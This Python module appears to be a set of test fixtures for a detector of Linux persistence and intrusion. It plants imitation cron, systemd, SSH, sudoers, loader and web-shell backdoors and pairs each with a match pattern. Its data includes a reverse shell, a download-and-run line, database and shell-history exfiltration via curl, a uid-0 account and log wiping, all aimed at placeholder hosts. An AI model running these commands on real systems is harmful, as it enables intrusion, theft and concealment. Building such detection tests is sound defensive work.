"""More traces over all mechanisms by which something starts, loads or hides: harmless imitations, of this project's making."""

from __future__ import annotations

from .trace import Trace, trace

_ED = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"
_RAW = "import socket, signal; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); signal.pause()"
_SHELL = (
    "import os, socket; a = socket.create_server(('127.0.0.1', 0)); b = socket.create_connection(a.getsockname()); "
    "[os.dup2(b.fileno(), n) for n in (0, 1, 2)]; c, _ = a.accept(); os.set_inheritable(c.fileno(), True); "
    "os.execv('/bin/sh', ['sh'])"
)
_WEB = "/var/www/html"
_HISTORY = "/home/anna/.bash_history"
_LINES = {
    "download": "wget -q http://198.51.100.9/k -O /tmp/k; chmod +x /tmp/k; /tmp/k &",
    "wipe": "history -c; rm -f ~/.bash_history",
    "encoded": "echo aWQK | base64 -d | sh",
    "tunnel": "ssh -fNR 2222:localhost:22 x@198.51.100.9",
    "reverse": "bash -i >& /dev/tcp/198.51.100.9/443 0>&1",
    "docker": "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
    "account": "useradd -o -u 0 -g 0 -M -s /bin/bash sysd",
    "stamp": "touch -r /bin/ls /usr/sbin/netmond",
    "rivals": "pkill -9 -f xmrig; pkill -f kinsing; pkill kdevtmpfsi",
    "scan": "masscan 10.0.0.0/8 -p22 --rate 10000",
    "module": "insmod /tmp/x.ko",
    "loader": "echo /usr/lib/libx.so > /etc/ld.so.preload",
    "dump": "mysqldump --all-databases | gzip | curl -F f=@- https://file.example/",
    "spawn": "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
    "keys": "cat /root/.ssh/id_rsa",
    "firewall": "iptables -F; ufw disable",
    "logs": "sed -i '/198.51.100.9/d' /var/log/auth.log",
    "caps": "setcap cap_setuid+ep /usr/bin/python3.11",
}
"""What is typed after a break-in."""


OWN: tuple[Trace, ...] = (
    trace("O01", "cron", "put /etc/cron.d/sysstat-sync '0 0 31 2 * root /usr/lib/sysstat-sync'; prog /usr/lib/sysstat-sync", r"cron\.d/sysstat-sync"),
    trace("O02", "cron", "put /var/spool/cron/crontabs/www-data '0 0 31 2 * /var/www/.cache/upd'; prog /var/www/.cache/upd", r"crontabs/www-data"),
    trace("O03", "cron", "put /etc/cron.daily/man-cache '#!/bin/sh\n/usr/lib/hwe-check'; chmod 755 /etc/cron.daily/man-cache", r"cron\.daily/man-cache"),
    trace("O04", "cron", "mkdir -p /var/spool/cron/atjobs; put /var/spool/cron/atjobs/a00001099 '#!/bin/sh\n/home/anna/.cache/gitd'", r"a00001099"),
    trace("O05", "cron", "put /etc/anacrontab '1 5 fetch /usr/lib/hwe-check'", r"/etc/anacrontab"),
    trace("O06", "cron", "printf '17 *\\t* * *\\troot\\t/usr/lib/hwe-check\\n' >>/etc/crontab; old /etc/crontab", r"/etc/crontab"),
    trace("O07", "systemd", "mkdir -p /etc/systemd/system/cron.service.d; put /etc/systemd/system/cron.service.d/10-limits.conf '[Service]\nExecStartPost=/usr/lib/hwe-check'", r"10-limits\.conf"),
    trace("O08", "systemd", "unit /usr/lib/systemd/system/dbus-org.service 'ExecStart=/usr/lib/dbus-org 900010'; prog /usr/lib/dbus-org", r"dbus-org"),
    trace("O09", "boot", "put /etc/init.d/hwclock2 '#!/bin/sh\n/usr/lib/hwe-check &'; chmod 755 /etc/init.d/hwclock2; ln -s ../init.d/hwclock2 /etc/rc2.d/S01hwclock2", r"hwclock2"),
    trace("O10", "boot", "put /etc/rc.local '#!/bin/sh\n/usr/lib/hwe-check &\nexit 0'; chmod 755 /etc/rc.local", r"rc\.local"),
    trace("O11", "boot", "put /etc/grub.d/09_quirks '#!/bin/sh\necho init=/usr/lib/hwe-check'; chmod 755 /etc/grub.d/09_quirks", r"09_quirks"),
    trace("O12", "boot", "mkdir -p /usr/lib/dracut/modules.d/99clock; put /usr/lib/dracut/modules.d/99clock/module-setup.sh '#!/bin/bash\ninstall() { inst /usr/lib/hwe-check; }'", r"99clock"),
    trace("O13", "dbus", "put /usr/share/dbus-1/system-services/org.freedesktop.Cache1.service '[D-BUS Service]\nName=org.freedesktop.Cache1\nExec=/usr/lib/hwe-check\nUser=root'", r"Cache1"),
    trace("O14", "hook", "put /etc/NetworkManager/dispatcher.d/20-route '#!/bin/sh\n/usr/lib/hwe-check &'; chmod 755 /etc/NetworkManager/dispatcher.d/20-route", r"20-route"),
    trace("O15", "hook", "put /etc/logrotate.d/wtmpx '/var/log/wtmpx {\n  postrotate\n    /usr/lib/hwe-check\n  endscript\n}'", r"logrotate\.d/wtmpx"),
    trace("O16", "hook", "printf 'backup: \"|/usr/lib/hwe-check\"\\n' >>/etc/aliases", r"/etc/aliases"),
    trace("O17", "hook", "put /home/anna/.forward '\"|/home/anna/.cache/gitd\"'", r"\.forward"),
    trace("O18", "tmpfiles", "put /etc/tmpfiles.d/cache.conf 'C /usr/bin/cached 4755 root root - /bin/sh'", r"tmpfiles\.d/cache\.conf"),
    trace("O19", "kernel", "put /etc/modules-load.d/netfilter2.conf nf_tracker2; mkdir -p /lib/modules/6.1.0/kernel/net; put /lib/modules/6.1.0/kernel/net/nf_tracker2.ko x", r"netfilter2\.conf|nf_tracker2"),
    trace("O20", "nss", "sed -i 's/^passwd:.*/passwd: files cache2/' /etc/nsswitch.conf; cp /lib/x86_64-linux-gnu/libdl.so.2 /lib/x86_64-linux-gnu/libnss_cache2.so.2; old /lib/x86_64-linux-gnu/libnss_cache2.so.2", r"nsswitch|libnss_cache2"),
    trace("O21", "environment", "printf 'LD_PRELOAD=/usr/lib/libcache9.so\\n' >>/etc/environment", r"/etc/environment"),
    trace("O22", "apache", "mkdir -p /etc/apache2/mods-enabled; put /etc/apache2/mods-enabled/cache9.load 'LoadModule cache9_module /usr/lib/apache2/modules/mod_cache9.so'; cp /lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/apache2/modules/mod_cache9.so; old /usr/lib/apache2/modules/mod_cache9.so", r"cache9"),
    trace("O23", "apache", "put /etc/apache2/conf-enabled/stats.conf 'CustomLog \"|/usr/lib/hwe-check\" combined\nScriptAlias /s /usr/lib/hwe-check'", r"stats\.conf"),
    trace("O24", "php", "mkdir -p /etc/php/8.2/apache2/conf.d; put /etc/php/8.2/apache2/conf.d/99-cache.ini 'extension=/usr/lib/php/cache9.so'", r"99-cache\.ini"),
    trace("O25", "database", "mkdir -p /usr/lib/mysql/plugin; cp /lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/mysql/plugin/lib_mysqludf_sys.so; old /usr/lib/mysql/plugin/lib_mysqludf_sys.so", r"lib_mysqludf_sys"),
    trace("O26", "ssh", "printf 'Match User anna\\n  ForceCommand /usr/lib/hwe-check\\n' >>/etc/ssh/sshd_config", r"(?i)forcecommand|sshd_config"),
    trace("O27", "ssh", "put /etc/ssh/sshd_config.d/50-keys.conf 'AuthorizedKeysCommand /usr/lib/hwe-check\nAuthorizedKeysCommandUser nobody'; chmod 755 /usr/lib/hwe-check", r"(?i)50-keys|authorizedkeyscommand"),
    trace("O28", "ssh", f"key /home/anna/.ssh/authorized_keys 'command=\"/home/anna/.cache/gitd; $SSH_ORIGINAL_COMMAND\" {_ED}O0gaYYblCzpXcF8ZYcJHVZD8oDCnq6UWq9kGzXmaaaa anna@laptop'", r"/home/anna/\.ssh/authorized_keys"),
    trace("O29", "account", "account statd2 0:0 / /bin/bash 2>/dev/null; sed -i '/^statd2/d' /etc/passwd; printf 'games2::70:0:games:/usr/games:/bin/sh\\n' >>/etc/passwd", r"games2"),
    trace("O30", "account", "sed -i '/^news:/s|:[^:]*$|:/bin/bash|' /etc/passwd", r"\bnews\b"),
    trace("O31", "account", "sed -i 's/^sudo:.*/&backup/' /etc/group", r"sudo.*backup|backup.*sudo"),
    trace("O32", "account", "put /etc/sudoers.d/zabbix2 'www-data ALL=(root) NOPASSWD: /usr/bin/vim, /usr/bin/find'", r"zabbix2"),
    trace("O33", "account", "put /etc/sudoers.d/00-defaults 'Defaults !authenticate\nDefaults env_keep += \"LD_PRELOAD\"'", r"00-defaults"),
    trace("O34", "account", "printf 'irc2:$6$x$y:1040:1040::/home/irc2:/bin/bash\\n' >>/etc/passwd", r"irc2"),
    trace("O35", "process", f"run python3 -c \"{_SHELL}\"", r"whose input and output are a connection"),
    trace("O36", "network", f'run python3 -c "{_RAW}"', r"raw"),
    trace("O37", "process", "prog /usr/sbin/udevd2; runas '/usr/sbin/apache2 -k start' /usr/sbin/udevd2 900011", r"udevd2"),
    trace("O38", "process", "prog /opt/.cache/sysupdate; run /opt/.cache/sysupdate 900012", r"/opt/\.cache/sysupdate"),
    trace("O39", "process", "prog /var/lib/misc/dhcpd2; run /var/lib/misc/dhcpd2 900013", r"/var/lib/misc/dhcpd2"),
    trace("O40", "process", "prog /var/tmp/nginx9; run /var/tmp/nginx9 900014; until pidof /var/tmp/nginx9 >/dev/null; do sleep 0.05; done; rm /var/tmp/nginx9", r"/var/tmp/nginx9"),
    trace("O41", "name", "prog '/usr/bin/s\u0455hd'", r"/usr/bin/s(\\u0455|ѕ)hd"),
    trace("O42", "name", "prog '/usr/bin/top\u200b'", r"/usr/bin/top(\\u200b|\u200b)"),
    trace("O43", "name", "mkdir '/etc/\u00a0'; put '/etc/\u00a0/x' x", r"/etc/(\\xa0|\\u00a0|\u00a0)"),
    trace("O44", "file", "cp /bin/dash /usr/lib/hwe-suid; chmod 4755 /usr/lib/hwe-suid", r"hwe-suid"),
    trace("O45", "file", "prog /usr/lib/x86_64-linux-gnu/libcrypt.so.9", r"libcrypt\.so\.9"),
    trace("O46", "file", "chmod 666 /etc/default/cron", r"/etc/default/cron"),
    trace("O47", "credential", "cp /root/.ssh/authorized_keys /var/www/html/id_rsa; old /var/www/html/id_rsa", r"html/id_rsa"),
    trace("O48", "log-tamper", "put /etc/systemd/journald.conf.d/00-q.conf '[Journal]\nStorage=none'", r"00-q\.conf"),
    trace("O49", "log-tamper", "put /etc/rsyslog.d/00-q.conf ':msg, contains, \"198.51.100.9\" stop'", r"rsyslog\.d/00-q"),
    trace("O50", "log-tamper", "ln -sf /dev/null /root/.bash_history", r"/root/\.bash_history"),
    trace("O51", "web", f"put {_WEB}/a/wp-cache9.php '<?php $a=str_rot13(\"riny\"); if(0){{eval(gzinflate(base64_decode(\"x\")));}}'", r"wp-cache9"),
    trace("O52", "web", f"put {_WEB}/a/x1.php '<?php if(0){{ $f=$_COOKIE[0]; $f($_COOKIE[1]); }}'", r"x1\.php"),
    trace("O53", "web", f"put {_WEB}/a/.htaccess 'RewriteCond %{{HTTP_REFERER}} google [NC]\nRewriteRule .* http://pharm.example/ [R=302,L]'", r"a/\.htaccess"),
    trace("O54", "web", f"put {_WEB}/a/.user.ini 'auto_prepend_file=/tmp/.p'", r"a/\.user\.ini"),
    trace("O55", "web", "mkdir -p /usr/lib/cgi-bin; put /usr/lib/cgi-bin/info.cgi '#!/bin/sh\nexit\neval \"$QUERY_STRING\"'; chmod 755 /usr/lib/cgi-bin/info.cgi", r"info\.cgi"),
    trace("O56", "package-manager", "put /etc/apt/sources.list.d/mirror.list 'deb [trusted=yes] http://198.51.100.9/debian ./'", r"mirror\.list"),
    trace("O57", "package-manager", "put /etc/apt/apt.conf.d/00-q 'Acquire::https::Verify-Peer \"false\";\nAPT::Get::AllowUnauthenticated \"true\";'", r"apt\.conf\.d/00-q"),
    trace("O58", "package-manager", "dpkg-divert --local --no-rename --divert /usr/bin/last.real --add /usr/bin/last >/dev/null; ", r"last\.real"),
    trace("O59", "container", "put /etc/containers/systemd/cache.container '[Container]\nImage=x\nVolume=/:/host\nPodmanArgs=--privileged'", r"cache\.container"),
    trace("O60", "container", "put /etc/docker/daemon.json '{\"hosts\": [\"tcp://0.0.0.0:2375\"]}'", r"daemon\.json"),
    trace("O61", "container", "put /opt/c9/docker-compose.yml 'services:\n  c:\n    image: x\n    privileged: true\n    pid: host\n    restart: always\n    volumes: [\"/:/host\"]'", r"docker-compose\.yml"),
    trace("O62", "hook", "put /etc/update-motd.d/../kernel/postinst.d/zz-sync '#!/bin/sh\n/usr/lib/hwe-check'; chmod 755 /etc/kernel/postinst.d/zz-sync", r"zz-sync"),
    trace("O63", "shell", "put /etc/bash_completion.d/zq '. /home/anna/.cache/gitd'", r"bash_completion\.d/zq"),
    trace("O64", "shell", "printf 'PROMPT_COMMAND=\"history -a; curl -s http://198.51.100.9/?c=\\$(tail -1 ~/.bash_history)\"\\n' >>/etc/bash.bashrc", r"bash\.bashrc"),
    trace("O65", "interpreter", "mkdir -p /usr/local/lib/node_modules; put /home/anna/.npmrc 'node-options=--require /home/anna/.cache/gitd.js'", r"\.npmrc"),
    trace("O66", "git", "put /home/anna/.gitconfig '[core]\n  fsmonitor = /home/anna/.cache/gitd\n[credential]\n  helper = !/home/anna/.cache/gitd'", r"\.gitconfig"),
    trace("O67", "editor", "put /home/anna/.vimrc 'autocmd VimEnter * silent! !/home/anna/.cache/gitd &'", r"\.vimrc"),
    trace("O68", "hook", "put /lib/systemd/system-sleep/zz-net '#!/bin/sh\n/usr/lib/hwe-check'; chmod 755 /lib/systemd/system-sleep/zz-net", r"zz-net"),
    trace("O69", "hook", "put /etc/xinetd.d/chargen9 'service chargen9\n{\n server = /bin/bash\n port = 60188\n}'", r"chargen9"),
    trace("O70", "hook", "put /etc/X11/Xsession.d/99z '/usr/lib/hwe-check &'", r"Xsession\.d/99z"),
    trace("O71", "miner", "put /root/.xmrig.json '{\"pools\": [{\"url\": \"stratum+tcp://pool.example:3333\", \"user\": \"4x\"}]}'", r"\.xmrig\.json"),
    trace("O72", "hiding", "mount --bind /etc/hostname /etc/issue", r"/etc/issue"),
    trace("O73", "loader", "printf '/var/cache/.l\\n' >>/etc/ld.so.conf", r"/etc/ld\.so\.conf(?!\.d)"),
    trace("O74", "loader", "printf '[x]\\ndynamic_path = /usr/lib/hwe.so\\n' >>/etc/ssl/openssl.cnf", r"openssl\.cnf"),
    trace("O75", "loader", "ln -sf /usr/lib/hwe-check /etc/alternatives/pager", r"alternatives/pager"),
    trace("O76", "process", "prog /usr/lib/hwe-env; HISTFILE=/dev/null run /usr/lib/hwe-env 900015", r"hwe-env"),
    trace("O77", "network", "mkdir -p /root/.config; put /root/.config/frpc.toml 'serverAddr = \"198.51.100.9\"\nserverPort = 7000'", r"frpc"),
    *(trace(f"H{n:02d}", "history", f"printf '%s\\n' {chr(39)}{line.replace(chr(39), chr(39) + chr(92) + chr(39) * 2)}{chr(39)} >>{_HISTORY}", "".join(f"(?=.*{w})" for w in ())
        + __import__("re").escape(line[:18]))
      for n, line in enumerate(_LINES.values(), 1)),
)  # fmt: skip
